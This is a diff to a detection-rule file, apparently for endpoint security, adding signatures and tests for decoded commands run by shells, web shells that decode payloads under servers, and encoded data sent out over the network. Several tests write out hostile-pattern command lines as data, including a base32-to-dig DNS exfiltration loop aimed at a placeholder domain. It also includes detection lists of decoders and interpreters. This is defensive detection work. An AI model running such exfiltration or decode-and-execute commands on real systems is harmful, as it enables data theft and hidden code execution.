@@ -167,6 +167,42 @@ signature "decoder_piped_to_interpreter" {
   }
 }
 
+signature "decoded_command_executed" {
+  description = "Decoded text run by a shell or interpreter as its code"
+  category    = "Defense Evasion"
+  method      = "Deobfuscate/Decode Files or Information"
+  importance  = "critical"
+  mitre       = ["T1140", "T1027", "T1059.004"]
+  # bash -c "$(echo … | base64 -d)": the decoder's output is a pipe its
+  # shell reads (command substitution), and that shell then runs an
+  # interpreter with inline code. bash <(echo … | base64 -d): the
+  # interpreter reads its program from /dev/fd/63, the decoder's pipe.
+  # The decoder runs in a subshell of the shell that runs the interpreter
+  # (by lineage). Shown not to be so (the decoder writes a file, or a pipe
+  # no shell above it reads), the pair is raised at unpiped_importance;
+  # when the decoder is gone before it can be read, the pair stays
+  # critical. PASS=$(… | base64 -d); mysql -p"$PASS" runs no interpreter
+  # and stays at data_encoder_exec's high.
+  sequence {
+    by                 = "lineage"
+    within             = "3s"
+    ordered            = true
+    pipe               = "decoder | interpreter"
+    unpiped_importance = "high"
+    step "decoder" {
+      executables = ["base64", "base32", "basenc", "base16", "base58", "base64url", "uudecode", "xxd", "openssl", "python", "pypy", "gpg", "gpg2"]
+      mode        = "decode"
+    }
+    step "interpreter" {
+      executables  = ["sh", "bash", "dash", "zsh", "ksh", "mksh", "ash", "fish", "busybox", "python", "pypy", "perl", "ruby", "php", "node", "nodejs", "bun", "tclsh", "wish", "expect", "lua", "luajit", "pwsh", "powershell"]
+      program_from = ["inline", "fd"]
+    }
+  }
+  actions {
+    default = ["Treat as hands-on-keyboard or dropper activity", "Capture the decoded command from the interpreter's argv", "Find what started the shell"]
+  }
+}
+
 signature "decoder_then_tmp_exec" {
   description = "Decoded data followed by an exec from a world-writable directory"
   category    = "Defense Evasion"
@@ -279,9 +315,11 @@ signature "encoder_then_network" {
   # seconds of each other (xxd f | head, then curl) are only a guess: shown
   # to share no pipe, they are raised at unpiped_importance. A pipe that
   # cannot be checked (a process gone too soon, a replay) is not held
-  # against the alert.
+  # against the alert. By lineage: the network tool may run in a subshell
+  # of the encoder's shell (base32 -w0 f | fold -w 40 | while read l; do
+  # dig $l.x.invalid; done), and filters between them relay the data.
   sequence {
-    by                 = "parent"
+    by                 = "lineage"
     within             = "10s"
     pipe               = "encoder | network"
     unpiped_importance = "medium"
@@ -297,6 +335,68 @@ signature "encoder_then_network" {
   actions {
     default    = ["Find the destination in the network tool's arguments", "Check what data was encoded"]
     production = ["Block the destination", "Find the destination in the network tool's arguments", "Check what data was encoded"]
+  }
+}
+
+signature "decoder_under_server" {
+  description = "Decoder run by a web, application or database server"
+  category    = "Persistence"
+  method      = "Server Software Component: Web Shell"
+  importance  = "critical"
+  mitre       = ["T1505.003", "T1140", "T1059"]
+  # A web shell decoding its payload: a decoder, or an interpreter decoding
+  # inline, whose ancestry holds a server. The servers are this list, by
+  # executable or by the process title they set ("php-fpm: pool www",
+  # "postgres: app db", "nginx: worker process"); java and node count only
+  # when their command line shows an application server (a CI agent such
+  # as Jenkins runs java too). Edit the lists for the servers of this host;
+  # the alert names the ancestor that made it critical.
+  ancestor_executables = [
+    "nginx", "apache2", "apache", "httpd", "lighttpd", "caddy", "traefik", "envoy", "haproxy",
+    "php-fpm", "php-cgi", "uwsgi", "gunicorn", "uvicorn", "hypercorn", "puma", "unicorn", "passenger",
+    "tomcat", "catalina", "jboss", "wildfly", "weblogic", "jetty", "glassfish",
+    "postgres", "postmaster", "mysqld", "mariadbd", "redis-server", "mongod", "sqlservr",
+  ]
+  match {
+    executables = ["base64", "base32", "basenc", "base16", "base58", "base64url", "uudecode", "xxd", "openssl", "python", "pypy", "gpg", "gpg2"]
+    mode        = "decode"
+  }
+  match {
+    executables  = ["sh", "bash", "dash", "zsh", "ksh", "mksh", "ash", "busybox", "python", "pypy", "perl", "ruby", "php", "node", "nodejs", "lua", "pwsh", "powershell"]
+    decode_calls = ["any"]
+  }
+  throttle {
+    per    = "ancestry"
+    window = "1m"
+  }
+  actions {
+    default = ["Treat as a web shell: find the request that ran it in the server's logs", "Preserve the decoded payload", "Isolate the host"]
+  }
+}
+
+signature "decoder_under_app_server" {
+  description = "Decoder run by a Java or Node application server"
+  category    = "Persistence"
+  method      = "Server Software Component: Web Shell"
+  importance  = "critical"
+  mitre       = ["T1505.003", "T1140", "T1059"]
+  # The same for servers whose executable is a runtime: java running an
+  # application server, node running a server script or under pm2.
+  ancestor_regex = "^\\S*java\\b.*(org\\.apache\\.catalina|jboss|wildfly|weblogic|jetty|glassfish|websphere|spring-boot|\\.war\\b)|^\\S*node(js)?\\b.*\\b(server|app|www|main)\\.[cm]?js\\b|^PM2 "
+  match {
+    executables = ["base64", "base32", "basenc", "base16", "base58", "base64url", "uudecode", "xxd", "openssl", "python", "pypy", "gpg", "gpg2"]
+    mode        = "decode"
+  }
+  match {
+    executables  = ["sh", "bash", "dash", "zsh", "ksh", "mksh", "ash", "busybox", "python", "pypy", "perl", "ruby", "php", "node", "nodejs", "lua", "pwsh", "powershell"]
+    decode_calls = ["any"]
+  }
+  throttle {
+    per    = "ancestry"
+    window = "1m"
+  }
+  actions {
+    default = ["Treat as a web shell: find the request that ran it in the application's logs", "Preserve the decoded payload", "Isolate the host"]
   }
 }
 
@@ -627,6 +727,52 @@ test "python_nested_decode_call" {
 test "node_nested_decode_call" {
   argv   = ["node", "-e", "console.log(Buffer.from(require(\"fs\").readFileSync(\"q\",\"utf8\"),\"base64\").toString())"]
   expect = ["interpreter_inline_decode"]
+}
+
+test "decoder_under_php_fpm" {
+  argv   = ["base64", "-d"]
+  parent = "php-fpm: pool www"
+  expect = ["decoder_under_server", "data_encoder_exec"]
+}
+
+test "inline_decode_under_nginx" {
+  command = "python3 -c 'import base64;exec(base64.b64decode(\"cHJpbnQoMSk=\"))'"
+  parent  = "nginx: worker process"
+  expect  = ["decoder_under_server"]
+}
+
+test "decoder_under_tomcat" {
+  argv   = ["base64", "-d"]
+  parent = "/usr/bin/java -Dcatalina.home=/opt/tomcat org.apache.catalina.startup.Bootstrap start"
+  expect = ["decoder_under_app_server"]
+}
+
+test "decoder_under_jenkins_agent_is_not_a_web_shell" {
+  argv       = ["base64", "-d"]
+  parent     = "/usr/bin/java -jar agent.jar -url http://ci.example.invalid"
+  expect     = ["data_encoder_exec"]
+  expect_not = ["decoder_under_app_server", "decoder_under_server"]
+}
+
+test "decoder_under_a_shell_is_not_a_web_shell" {
+  argv       = ["base64", "-d"]
+  expect_not = ["decoder_under_server", "decoder_under_app_server"]
+}
+
+test "command_substitution_runs_decoded_text" {
+  command = "sh -c 'bash -c \"$(echo ZWNobyBoaQo= | base64 -d)\"'"
+  expect  = ["decoded_command_executed"]
+}
+
+test "decoded_password_is_not_a_command" {
+  command    = "sh -c 'PASS=$(echo aHVudGVyMg== | base64 -d); mysql -p\"$PASS\"'"
+  expect     = ["data_encoder_exec"]
+  expect_not = ["decoded_command_executed", "decoder_piped_to_interpreter"]
+}
+
+test "encoder_to_dns_through_a_loop" {
+  command = "sh -c 'base32 -w0 secret | fold -w 40 | while read l; do dig $l.x.invalid; done'"
+  expect  = ["encoder_then_network"]
 }
 
 test "git_is_quiet" {
